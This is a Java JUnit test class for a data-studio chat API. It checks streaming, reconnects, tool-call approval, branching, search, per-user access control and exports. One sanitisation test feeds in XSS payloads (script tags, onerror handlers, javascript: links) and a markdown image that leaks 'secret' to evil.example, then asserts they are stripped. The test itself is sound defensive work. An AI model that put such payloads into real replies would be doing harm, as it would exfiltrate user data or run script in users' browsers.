package dev.datastudio.app.chat;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.datastudio.agents.tool.ToolRegistry;
import dev.datastudio.agents.tool.Tools;
import dev.datastudio.api.tenant.Caller;
import dev.datastudio.api.tool.ToolResult;
import dev.datastudio.app.AppServer;
import dev.datastudio.app.Belongings;
import dev.datastudio.app.Person;
import dev.datastudio.app.identity.account.Sessions;
import dev.datastudio.core.Studio;
import dev.datastudio.core.conversation.Conversations;
import dev.datastudio.core.conversation.Message;
import dev.datastudio.core.conversation.Turn;
import dev.datastudio.core.conversation.Turns;
import dev.datastudio.testkit.model.ModelReply;
import dev.datastudio.testkit.model.ScriptedModelServer;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import tools.jackson.databind.JsonNode;

class ChatRoutesTest {
    private final Person ada = AppServer.shared().newPerson();
    private final ScriptedModelServer server = ScriptedModelServer.start();

    @AfterEach
    void close() {
        server.close();
    }

    private static String messages(String conversation) {
        return "/api/v1/conversations/" + conversation + "/messages";
    }

    @Test
    void withoutAModelThePlannerAnswersWithSqlAndAChartAndTakesFollowUps() {
        String data = ChatBench.orders(ada);
        String id = ChatBench.conversation(ada);

        JsonNode first = ada.post(
                        messages(id), "{'message':'total sales by region','context':{'datasetIds':['" + data + "']}}")
                .is(200)
                .json();
        JsonNode second =
                ada.post(messages(id), "{'message':'only the North'}").is(200).json();

        assertEquals("assistant", first.path("role").asString());
        assertTrue(first.path("text").asString().contains("North"), first.toString());
        JsonNode detail = first.path("detail");
        assertEquals("data_analyst", detail.path("agent").asString());
        assertTrue(detail.path("sql").get(0).asString().contains("region"), detail.toString());
        JsonNode figure = detail.path("charts").get(0).path("figure");
        assertEquals("bar", figure.path("data").get(0).path("type").asString());
        assertTrue(second.path("text").asString().contains("50"), second.toString());
        assertFalse(second.path("text").asString().contains("45"), second.toString());
    }

    @Test
    void dataAndDocumentsAreAskedInOneQuestion() {
        String data = ChatBench.orders(ada);
        byte[] terms = "Goods are sent back within thirty days.".getBytes(StandardCharsets.UTF_8);
        Belongings.document(ada, "returns.txt", terms);
        String id = ChatBench.conversation(ada);
        String context = "'context':{'datasetIds':['" + data + "'],'documents':true}}";

        JsonNode figures = ada.post(messages(id), "{'message':'total sales by region'," + context)
                .is(200)
                .json();
        JsonNode written = ada.post(messages(id), "{'message':'Within how many days are goods sent back?'}")
                .is(200)
                .json();
        ada.post(messages(id), "{'message':'When are goods sent back?','context':{'documents':true}}")
                .is(200);
        JsonNode asked = ada.get(messages(id)).is(200).json().path("items");

        assertEquals(0, figures.path("detail").path("tools").size());
        assertTrue(figures.path("text").asString().contains("North"), figures.toString());
        assertTrue(
                figures.path("detail")
                        .path("why")
                        .asString()
                        .contains("the documents are asked where the data hold no"),
                figures.toString());
        assertEquals("answered", written.path("detail").path("status").asString());
        assertTrue(written.path("text").asString().startsWith("The data hold no answer to this"), written.toString());
        assertEquals("returns.txt", written.at("/detail/quotes/0/documentName").asString());
        assertEquals(1, asked.at("/2/detail/asked/sources").size());
        assertTrue(asked.at("/2/detail/asked/documents").asBoolean(), "a follow-up is about the same");
        assertEquals(0, asked.at("/4/detail/asked/sources").size());
        assertEquals("rag_assistant", asked.at("/5/detail/agent").asString());
    }

    @Test
    void aModelHasTheToolsForDataAndForDocuments() {
        Belongings.addModel(ada, server);
        server.inTurn(ModelReply.text("Both."));
        String data = ChatBench.orders(ada);
        String id = ChatBench.conversation(ada);

        ada.post(
                        messages(id),
                        "{'message':'Which sales break our terms?','agent':'sql_expert','context':{'datasetIds':['"
                                + data + "'],'documents':true}}")
                .is(200);

        List<String> tools = server.requests().get(0).tools();
        assertTrue(tools.containsAll(List.of("sql_query", "query_documents")), tools.toString());
        assertTrue(server.requests().get(0).json().contains("The user asks the data"));
    }

    @Test
    void anAnswerIsStreamedUnderTheNamesThatClientsKnow() {
        Belongings.addModel(ada, server);
        server.inTurn(ModelReply.pieces("Forty", "-", "two"));
        String id = ChatBench.conversation(ada);

        List<ChatBench.Event> events;
        try (ChatBench.Stream stream =
                ChatBench.stream(ada, messages(id), "{'message':'How many?','agent':'data_analyst'}")) {
            events = stream.rest();
        }

        assertEquals(
                List.of(
                        "connection_established",
                        "message",
                        "analysis_update",
                        "typing",
                        "token",
                        "token",
                        "token",
                        "typing",
                        "message"),
                events.stream().map(ChatBench.Event::type).toList());
        ChatBench.Event last = events.get(events.size() - 1);
        assertTrue(last.data().path("final").asBoolean());
        assertFalse(events.get(1).data().path("final").asBoolean());
        assertEquals("Forty-two", last.data().path("text").asString());
        String turn = last.data().path("turn_id").asString();
        assertEquals(turn + ":" + last.data().path("sequence").asLong(), last.id());
    }

    @Test
    void aReconnectInMidStreamLosesNothingAndDoublesNothing() throws InterruptedException {
        Belongings.addModel(ada, server);
        CountDownLatch held = new CountDownLatch(1);
        server.inTurn(ModelReply.pieces("one ", "two ", "three ", "four").heldAfter(2, held));
        String id = ChatBench.conversation(ada);
        String last;
        try (ChatBench.Stream stream =
                ChatBench.stream(ada, messages(id), "{'message':'Count.','agent':'data_analyst'}")) {
            last = Objects.requireNonNull(stream.until(
                            event -> event.data().path("text").asString("").equals("one ")))
                    .id();
        }

        List<ChatBench.Event> rest;
        try (ChatBench.Stream again = ChatBench.follow(ada, id, last)) {
            assertEquals("connection_established", again.one().type());
            assertEquals("two ", again.one().data().path("text").asString());
            held.countDown();
            rest = again.rest();
        }

        assertEquals("three ", rest.get(0).data().path("text").asString());
        assertEquals("four", rest.get(1).data().path("text").asString());
        assertEquals(
                "one two three four",
                rest.get(rest.size() - 1).data().path("text").asString());
        String end = rest.get(rest.size() - 1).id();
        try (ChatBench.Stream nothing = ChatBench.follow(ada, id, end)) {
            assertEquals(1, nothing.rest().size());
        }
        ada.send(ada.request("/api/v1/conversations/" + id + "/events").GET()).is(204);
        assertEquals(1, server.requests().size());
    }

    @Test
    void aClientThatGoesStopsNothingButAStopDoes() throws InterruptedException {
        Belongings.addModel(ada, server);
        CountDownLatch held = new CountDownLatch(1);
        server.inTurn(
                ModelReply.pieces("kept ", "on").heldAfter(1, held),
                ModelReply.pieces("cut ", "off").stalledAfter(1));
        String id = ChatBench.conversation(ada);
        String question = "{'message':'Go on?','agent':'data_analyst'}";
        try (ChatBench.Stream stream = ChatBench.stream(ada, messages(id), question)) {
            stream.until(event -> event.type().equals("token"));
        }
        ada.post(messages(id), question).is(409);
        try (ChatBench.Stream end = ChatBench.follow(ada, id, "")) {
            held.countDown();
            List<ChatBench.Event> rest = end.rest();
            assertEquals(
                    "kept on", rest.get(rest.size() - 1).data().path("text").asString());
        }

        try (ChatBench.Stream stream = ChatBench.stream(ada, messages(id), question)) {
            stream.until(event -> event.type().equals("token"));
            ada.post("/api/v1/conversations/" + id + "/stop", "").is(204);
            ChatBench.Event last =
                    stream.until(event -> event.data().path("final").asBoolean(false));
            assertEquals("stopped", last.data().path("detail").path("status").asString());
            assertEquals("cut ", last.data().path("text").asString());
        }
    }

    @Test
    void aMessageThatIsSentTwiceUnderOneKeyIsAskedOnce() {
        Belongings.addModel(ada, server);
        server.inTurn(ModelReply.text("Once."), ModelReply.text("Twice."));
        String id = ChatBench.conversation(ada);
        String key = UUID.randomUUID().toString();

        Person.Reply first = keyed(id, key, "application/json");
        Person.Reply again = keyed(id, key, "application/json");

        assertEquals("Once.", first.is(200).json().path("text").asString());
        assertEquals(first.json(), again.is(200).json());
        assertEquals(1, server.requests().size());
        String other = UUID.randomUUID().toString();
        keyed(id, other, "text/event-stream").is(200);
        keyed(id, other, "text/event-stream").is(409);
        assertEquals(2, server.requests().size());
    }

    private Person.Reply keyed(String id, String key, String accept) {
        return ada.send(ada.request(messages(id))
                .header("Content-Type", "application/json")
                .header("Accept", accept)
                .header("Idempotency-Key", key)
                .POST(BodyPublishers.ofString("{\"message\":\"Once?\",\"agent\":\"data_analyst\"}")));
    }

    @Test
    void aQuestionWhoseProcessBrokeOffIsKeptAndAskedAgain() {
        Studio studio = AppServer.shared().bean(Studio.class);
        String data = ChatBench.orders(ada);
        String id = ChatBench.conversation(ada);
        Caller caller = ChatBench.caller(ada);
        String asked = "{\"agent\":\"auto\",\"sources\":[\"" + data + "\"]}";
        Conversations.of(studio.metadata(), caller).addAfter(id, 0, Message.Role.USER, "total sales by region", asked);
        Turns turns = Turns.of(studio.metadata(), caller, studio.clock());
        Turn gone = turns.begin(id, "gone", Duration.ofHours(1));

        String path = "/api/v1/conversations/" + id;
        assertTrue(ada.get(path).is(200).json().path("busy").asBoolean(), "as long as it may go on elsewhere");
        ada.send(ada.request(path + "/events").GET()).is(204);
        turns.renew(gone, Duration.ZERO); // as when nobody renews it
        assertFalse(ada.get(path).is(200).json().path("busy").asBoolean(), "nobody has it any more");
        JsonNode kept = ada.get(messages(id)).is(200).json().path("items");
        JsonNode answer = ada.post(messages(id) + "/1/retry", "").is(200).json();

        assertEquals(1, kept.size());
        assertEquals("total sales by region", kept.at("/0/text").asString());
        assertEquals("answered", answer.at("/detail/status").asString());
        assertEquals(1, answer.path("parent").asInt());
    }

    @Test
    @Timeout(60)
    void aStreamEndsWithTheSessionOfWhoeverFollowsIt() {
        Belongings.addModel(ada, server);
        CountDownLatch held = new CountDownLatch(1);
        server.inTurn(ModelReply.pieces("Going ", "on.").heldAfter(1, held));
        String id = ChatBench.conversation(ada);

        List<ChatBench.Event> rest;
        try (ChatBench.Stream stream =
                ChatBench.stream(ada, messages(id), "{'message':'Go on?','agent':'data_analyst'}")) {
            stream.until(event -> event.type().equals("token"));
            AppServer.shared().bean(Sessions.class).endAll(ada.account().caller());
            rest = stream.rest(); // ends with the stream
        }
        held.countDown();

        assertTrue(rest.stream().noneMatch(event -> event.data().path("final").asBoolean(false)), rest.toString());
        ada.send(ada.request("/api/v1/conversations/" + id + "/events").GET()).is(401);
    }

    record Note(String text) {}

    @Test
    void aToolThatDoesMoreThanReadWaitsForWhoeverAsked() throws InterruptedException {
        Studio studio = AppServer.shared().bean(Studio.class);
        AtomicInteger written = new AtomicInteger();
        ToolRegistry.of(studio).register(Tools.writing("write_note_x", "Writes a note", Note.class, (note, context) -> {
            written.incrementAndGet();
            return ToolResult.of("Written.");
        }));
        Belongings.addModel(ada, server);
        JsonNode agent = ada.get("/api/v1/agents/data_analyst").is(200).json();
        ada.put(
                        "/api/v1/agents/data_analyst",
                        "{'instructions':'Help.','tools':['write_note_x']}",
                        "\"" + agent.path("revision").asLong() + "\"")
                .is(200);
        String call = "{\"text\":\"remember\"}";
        server.inTurn(
                ModelReply.toolCall("write_note_x", call),
                ModelReply.text("Kept."),
                ModelReply.toolCall("write_note_x", call),
                ModelReply.text("Kept, too."),
                ModelReply.toolCall("write_note_x", call),
                ModelReply.text("Not kept."));
        String id = ChatBench.conversation(ada);
        String approve = "/api/v1/conversations/" + id + "/approve";
        String question = "{'message':'Note it','agent':'data_analyst'}";

        try (ChatBench.Stream stream = ChatBench.stream(ada, messages(id), question)) {
            ChatBench.Event asked = stream.until(event -> event.type().equals("approval_needed"));
            assertEquals("write", asked.data().path("effect").asString());
            assertEquals("write_note_x", asked.data().path("tool").asString());
            assertEquals(0, written.get());
            AppServer.shared()
                    .newPerson()
                    .post(approve, "{'approval':'1','approved':true}")
                    .is(404);
            ada.post(approve, "{'approval':'2','approved':true}").is(409);
            ada.post(approve, "{'approval':'1'}").is(400);
            ada.post(approve, "{'approval':'1','approved':true}").is(204);
            assertEquals(
                    "Kept.",
                    stream.until(event -> event.data().path("final").asBoolean(false))
                            .data()
                            .path("text")
                            .asString());
        }
        assertEquals(1, written.get());

        try (ChatBench.Socket socket = ChatBench.Socket.open(ada, "/ws/chat/" + id)) {
            socket.send("{'type':'message'," + question.substring(1));
            JsonNode asked = socket.until("approval_needed");
            assertEquals("write_note_x", asked.path("tool").asString());
            assertEquals(1, written.get());
            ada.post(approve, "{'approval':'" + asked.path("approval").asString() + "','approved':true}")
                    .is(204);
            List<JsonNode> rest = socket.turn();
            assertEquals("Kept, too.", rest.get(rest.size() - 1).path("text").asString());
        }
        assertEquals(2, written.get());

        // Whoever waits for a whole answer can't be asked.
        ada.post(messages(id), question).is(200);
        assertEquals(2, written.get());
        ada.post(approve, "{'approval':'1','approved':true}").is(409);
    }

    @Test
    void branchesAreBegunShownAndChosen() {
        Belongings.addModel(ada, server);
        server.inTurn(ModelReply.text("First."), ModelReply.text("Second."), ModelReply.text("Third."));
        String id = ChatBench.conversation(ada);
        ada.post(messages(id), "{'message':'A?','agent':'data_analyst'}").is(200);
        JsonNode retried = ada.post(messages(id) + "/1/retry", "").is(200).json();
        ada.post(messages(id) + "/1/edit", "{'message':'B?','agent':'data_analyst'}")
                .is(200);

        JsonNode edited = ada.get(messages(id)).is(200).json().path("items");
        JsonNode chosen = ada.post("/api/v1/conversations/" + id + "/choose", "{'number':2}")
                .is(200)
                .json();
        JsonNode before = ada.get(messages(id)).is(200).json().path("items");

        assertEquals("[2,3]", retried.path("siblings").toString());
        assertEquals("B?", edited.get(0).path("text").asString());
        assertEquals("[1,4]", edited.get(0).path("siblings").toString());
        assertEquals(5, chosen.path("messages").asInt());
        assertEquals("First.", before.get(1).path("text").asString());
        JsonNode rated = ada.post("/api/v1/conversations/" + id + "/feedback", "{'number':2,'value':'up'}")
                .is(200)
                .json();
        assertEquals("up", rated.path("rating").asString());
        ada.post("/api/v1/conversations/" + id + "/feedback", "{'number':1,'value':'up'}")
                .is(400);
    }

    @Test
    void longConversationsAreReadBackwards() {
        String id = ChatBench.conversation(ada);
        ada.post(messages(id), "{'message':'one'}").is(200);
        ada.post(messages(id), "{'message':'two'}").is(200);

        JsonNode latest = ada.get(messages(id) + "?limit=2").is(200).json();
        JsonNode earlier = ada.get(
                        messages(id) + "?limit=2&after=" + latest.path("next").asString())
                .is(200)
                .json();

        assertEquals("two", latest.path("items").get(0).path("text").asString());
        assertEquals("one", earlier.path("items").get(0).path("text").asString());
        assertTrue(earlier.path("next").isNull());
    }

    @Test
    void conversationsAreNamedPutAwayFoundAndDeleted() {
        String id = ada.post("/api/v1/conversations", "{'title':'Sales of the North','agent':'sql_expert'}")
                .is(201)
                .json()
                .path("id")
                .asString();
        ChatBench.conversation(ada);

        assertEquals(1, items("?q=north").size());
        assertEquals(1, items("?agent=sql_expert").size());
        ada.post(messages(id), "{'message':'What of the harbour?'}").is(200);
        assertEquals(
                "What of the ", items("?q=HARBOUR").get(0).at("/said/before").asString());
        assertEquals(0, items("?q=harbour&agent=data_analyst").size());
        ada.get("/api/v1/conversations?q=" + "x".repeat(201)).is(400);
        Person eve = AppServer.shared().newPerson();
        assertEquals(
                0,
                eve.get("/api/v1/conversations?q=harbour").json().path("items").size());
        ada.patch("/api/v1/conversations/" + id, "{'status':'archived','title':'Done'}")
                .is(200);
        assertEquals("Done", items("?status=archived").get(0).path("title").asString());
        ada.post(messages(id), "{'message':'More?'}").is(400);
        ada.delete("/api/v1/conversations/" + id).is(204);
        ada.get("/api/v1/conversations/" + id).is(404);
        ada.post("/api/v1/conversations", "{'agent':'nobody'}").is(404);
    }

    private JsonNode items(String query) {
        return ada.get("/api/v1/conversations" + query).is(200).json().path("items");
    }

    @Test
    void nobodyElseReadsFollowsOrAnswersAConversation() {
        Person eve = AppServer.shared().newPerson();
        String id = ChatBench.conversation(ada);
        ada.post(messages(id), "{'message':'Secret?'}").is(200);

        eve.get("/api/v1/conversations/" + id).is(404);
        eve.get(messages(id)).is(404);
        eve.post(messages(id), "{'message':'Hello'}").is(404);
        eve.get("/api/v1/conversations/" + id + "/events").is(404);
        eve.post("/api/v1/conversations/" + id + "/stop", "").is(404);
        eve.get("/api/v1/conversations/" + id + "/export").is(404);
        assertEquals(
                0, eve.get("/api/v1/conversations").is(200).json().path("items").size());
        String data = ChatBench.orders(ada);
        String own = ChatBench.conversation(eve);
        eve.post(messages(own), "{'message':'total sales','context':{'datasetIds':['" + data + "']}}")
                .is(404);
    }

    @Test
    void whatComesOutOfAChatLoadsAndRunsNothing() {
        Belongings.addModel(ada, server);
        server.inTurn(ModelReply.text("![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>"
                + " [click](javascript:alert(1)) <a href='javascript:alert(1)'>y</a> **bold**"));
        String id = ChatBench.conversation(ada);

        String text;
        try (ChatBench.Stream stream = ChatBench.stream(
                ada, messages(id), "{'message':'<script>alert(1)</script> hi','agent':'data_analyst'}")) {
            text = stream.until(event -> event.data().path("final").asBoolean(false))
                    .data()
                    .path("text")
                    .asString();
        }
        String kept = ada.get(messages(id)).is(200).json().at("/items/1/text").asString();
        String file = ada.get("/api/v1/conversations/" + id + "/export?format=md")
                .is(200)
                .response()
                .body();

        assertTrue(text.contains("**bold**"), text);
        assertEquals(text, kept);
        for (String each : List.of(text, file)) {
            assertFalse(each.contains("!["), each);
            assertFalse(each.matches("(?s).*<[a-zA-Z/!].*"), each);
            assertFalse(each.contains("](javascript"), each);
        }
        Person.Reply json = ada.get("/api/v1/conversations/" + id + "/export?format=json");
        assertEquals(2, json.is(200).json().path("messages").size());
        assertTrue(json.header("Content-Disposition").startsWith("attachment"));
    }

    @Test
    void aModelThatFailsIsToldWithItsMend() {
        Belongings.addModel(ada, server);
        server.inTurn(ModelReply.error(500, "broken"));
        String id = ChatBench.conversation(ada);

        JsonNode answer = ada.post(messages(id), "{'message':'Hi','agent':'data_analyst'}")
                .is(200)
                .json();

        assertEquals("failed", answer.path("detail").path("status").asString());
        assertFalse(
                answer.path("detail").path("problem").path("mend").asString().isBlank());
    }

    @Test
    void studioChatAnswersWithAConversationThatIsFoundByItsContext() {
        String data = ChatBench.orders(ada);
        JsonNode reply = ada.post(
                        "/api/v1/studio/chat",
                        "{'message':'total sales','context':{'source_id':'" + data
                                + "','issue_id':'i-1','enriched':{'source':{'id':'" + data
                                + "','name':'orders','type':'csv'},'schema':{'columns':['sales']}}}}")
                .is(200)
                .json();

        assertTrue(reply.path("response").asString().contains("130"), reply.toString());
        String id = reply.path("conversation_id").asString();
        JsonNode found = ada.get("/api/v1/studio/conversations/context?issue_id=i-1&source_id=" + data)
                .is(200)
                .json();
        assertEquals(id, found.path("source_conversations").get(0).path("id").asString());
        assertEquals(1, found.path("issue_conversations").size());
        assertEquals(0, found.path("project_conversations").size());
        assertEquals(1, found.path("total_count").asInt());
        ada.get("/api/v1/studio/conversations/context").is(400);
        try (ChatBench.Stream stream = ChatBench.stream(
                ada, "/api/v1/studio/chat", "{'message':'only the North','conversation_id':'" + id + "'}")) {
            List<ChatBench.Event> events = stream.rest();
            assertTrue(
                    events.get(events.size() - 1).data().path("text").asString().contains("50"));
        }
    }
}
